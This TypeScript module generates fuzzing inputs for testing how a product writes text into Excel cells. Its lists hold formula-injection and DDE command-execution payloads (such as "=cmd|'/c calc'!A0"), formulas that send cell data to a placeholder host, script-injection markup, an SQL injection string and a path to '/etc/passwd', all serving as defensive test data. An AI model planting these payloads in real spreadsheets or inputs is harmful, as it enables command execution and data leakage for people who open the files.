import { randomFrom } from './generator';

/** A text made to be taken for something else, or to break what handles it. */
export interface HostileText {
  readonly text: string;
  /** What it is made of. */
  readonly kinds: readonly HostileKind[];
}

export type HostileKind = keyof typeof atoms | 'long';

/** Pieces of hostile text by what they attack; a value is one of them, or some of them joined. */
const atoms = {
  formula: [
    '=1+1', '=SUM(A1:A9)', '+1+1', '-1+1', '- Poursuivre', '@SUM(1)', '=', '==', '+', '-', '@', '=A1', "='x'!A1", '=-=',
    '=IF(1,2,3', '=(', '=a b', '={1;2}', '=1;2', '=SOMME(1;2)', '+33 1 23', '-5', '+418-555-0199', '=#REF!',
    '=IMPORTXML("http://x.test","//a")', '=WEBSERVICE("http://x.test/"&A1)', '=RTD("x",,"y")', '=CALL("k","e","J",1)',
  ],
  command: [
    "=cmd|'/c calc'!A0", "+cmd|'/c calc'!A0", "@SUM(1)*cmd|'/c calc'!A0", '=DDE("cmd";"/C calc";"x")',
    "=MSEXCEL|'\\..\\..\\cmd.exe /c calc'!''", '=HYPERLINK("http://x.test/?"&A1,"ici")', '=HYPERLINK("javascript:x()")',
    '=EXEC("calc")',
  ],
  wide: ['＝1+1', '＋1+1', '－1+1', '＠SUM(1)', '﹦1', '﹢1', '﹣1', '﹫A1', '１２３', '１／２', '％'],
  leading: ['\t=1+1', '\r=1+1', '\n=1+1', '\r\n=1', ' =1+1', '\u00a0=1+1', '\u200b=1+1', '\ufeff=1+1', '\u202e=1+1', '\u2007-1', '\u3000＝1'],
  apostrophe: ["'", "''", "'=1+1", "'texte", "''deux''", "'\u2019", '’apostrophe', '"', '""', '"=1+1"', '`'],
  markup: [
    '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '<b>gras</b>', '&lt;b&gt;', '&amp;amp;', '&#61;1+1',
    '<!-- -->', ']]>', '<![CDATA[x]]>', '<?xml?>', '<!DOCTYPE x>', '</t></si>', '<a href="javascript:x">', '&nbsp;', '&x;',
    '</script>', '<svg/onload=x>', '<table><tr><td>', '${7*7}', '{{7*7}}', '#{7}', '%00', '%3Cscript%3E', '\\u003d',
    "'; DROP TABLE x;--", '../../etc/passwd', 'javascript:alert(1)', '__proto__', 'constructor', 'toString', '[object Object]',
    'undefined', 'null', 'NaN', 'Infinity', '&P', '&"Arial"&8', '{page}', '&&',
  ],
  escape: ['_x0041_', '_x005F_x0041_', '_x000D_', '_x0000_', '_xD83D_', '_x00e9_', '_x005F_', '_x0041', '_X0041_', '__x0041__', '_x_x0041_'],
  number: [
    '1', '-1', '1,5', '1.5', '1 000', '1\u00a0000', '1\u202f000', '1E5', '1e-5', '1D5', '0x1F', '007', '1/2', '1 1/2',
    '50%', '50 %', '12 $', '$12', '€5', '1.10', '1.1.1', '(5)', '1e400', '-0', '٣', '123456789012345678', '0,1', '.5', '5.',
  ],
  digits: ['٠١٢٣', '۱۲۳', '१२३', '১২৩', '๑๒๓', '၁၂၃', '０１２', '𝟏𝟐𝟑', '੧੨', '௧௨', '一二三', 'Ⅻ', '½', '²', '①'],
  truth: ['TRUE', 'FALSE', 'VRAI', 'FAUX', 'true', 'Vrai', 'WAHR', 'VERDADERO', 'YES', 'Oui'],
  error: ['#REF!', '#N/A', '#VALUE!', '#NAME?', '#DIV/0!', '#NULL!', '#NUM!', '#SPILL!', '#CALC!', '#NOM?', '#VALEUR!', '####'],
  date: [
    '2021-06-02', '2021-06-02T10:00:00Z', '02/06/2021', '6/2', '2-Jun', 'Jun-21', '2 juin 2021', 'June 2, 2021', '10:30',
    '10h30', '1:2:3', '2021', 'mars', 'MARCH1', 'SEPT2', '31/12/9999', '1900-02-29', '44349',
  ],
  unicode: [
    '\u200b', '\u200c', '\u200d', '\ufeff', '\u00ad', '\u202a', '\u202e', '\u2066', '\u2069', '\u061c', '\u180e', '\u2028', '\u2029',
    '\u0085', '\u00a0', '\u0301', 'e\u0301', 'Z\u0351\u036b\u0343', '\u034f', '\ufffd', '\ufff9', '\ue000', '\u{10fffd}', 'ﬁ', 'İ', 'ß', 'ſ',
    'عربي', 'עברית', 'میخواهم', 'می\u200cخواهم', 'हिन्दी', '日本語', '한국어', 'ไทย',
  ],
  emoji: ['😀', '👩\u200d👩\u200d👧\u200d👦', '🏳️\u200d🌈', '🇨🇦', '🇶🇨', '👍🏽', '🏴\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}', '1️⃣', '❤️', '🧑🏿\u200d🦰'],
  space: [' ', '  ', '\t', '\n', '\r\n', '\r', ' a ', 'a\tb', 'a\nb', '\n\n', '\u00a0', '\u2003', '\u3000'],
  /** What a file of Excel cannot carry. */
  unheld: ['\u0000', '\u0001', '\u0007', '\u0008', '\u000b', '\u000c', '\u001b', '\u001f', '\u007f', '\ud83d', '\ude00', '\udfff\ud800', '\uffff', '\ufffe', 'a\u0000b'],
  plain: ['Rencontre', 'Suivi du dossier', 'l’école', 'Été — « bilan »', 'naïveté', 'cœur', 'A/B', 'R&D', 'C:\\dossier', 'a;b', 'a,b', 'a|b', '*gras*', '_x_', '> action', '1. point'],
} as const; // prettier-ignore

const kinds = Object.keys(atoms) as (keyof typeof atoms)[];

/** How often each kind begins a value: what begins a text is what decides how Excel takes it. */
const weights: Readonly<Partial<Record<keyof typeof atoms, number>>> = {
  formula: 5,
  command: 3,
  leading: 3,
  unheld: 0.6,
};

/** Most a cell holds, and about: with and without a sign that must be escaped. */
const lengths = [8_191, 8_192, 8_200, 32_766, 32_767, 32_768, 40_000];

/**
 * Hostile texts: single pieces first, each once, then joined at random. One in `longEvery` is about as long as a
 * formula or a cell may be. The same seed gives the same texts.
 */
export function hostileTexts(count: number, { seed = 1, longEvery = 400 } = {}): HostileText[] {
  const random = randomFrom(seed);
  const pick = <T>(list: readonly T[]): T => list[Math.floor(random() * list.length)]!;
  const total = kinds.reduce((sum, kind) => sum + (weights[kind] ?? 1), 0);
  const pickKind = () => {
    let left = random() * total;
    return kinds.find((kind) => (left -= weights[kind] ?? 1) < 0) ?? 'plain';
  };
  const joined = (): HostileText => {
    const chosen = Array.from({ length: 1 + Math.floor(random() * 4) }, pickKind);
    const separators = ['', '', ' ', '\n', '\t', ', '];
    const text = chosen.map((kind) => pick<string>(atoms[kind]) + pick(separators)).join('');
    return { text, kinds: chosen };
  };
  const long = (): HostileText => {
    const start = joined();
    return {
      text: start.text.padEnd(pick(lengths), pick(['x', '=', 'é', '👍', '\n', '_x0041_'])),
      kinds: [...start.kinds, 'long'],
    };
  };
  const single = kinds.flatMap((kind) => atoms[kind].map((text): HostileText => ({ text, kinds: [kind] })));
  return Array.from({ length: count }, (_, index) =>
    index < single.length ? single[index]! : index % longEvery === 0 ? long() : joined(),
  );
}

/** What a cell holds once it was given the text: line ends are line feeds. */
export const asCell = (text: string): string => text.replace(/\r\n?/g, '\n');

/**
 * Whether the product may write the text into a cell: no control that XML cannot carry, no half of a pair, no
 * non-character, and at most 32,767 characters. Written apart from the product's own test, as the judge of it.
 */
export function isHeld(text: string): boolean {
  for (const character of text) {
    const code = character.codePointAt(0)!;
    const isControl = (code < 0x20 && code !== 9 && code !== 10 && code !== 13) || code === 0x7f;
    if (isControl || (code >= 0xd800 && code <= 0xdfff) || code === 0xfffe || code === 0xffff) return false;
  }
  return asCell(text).length <= 32_767;
}
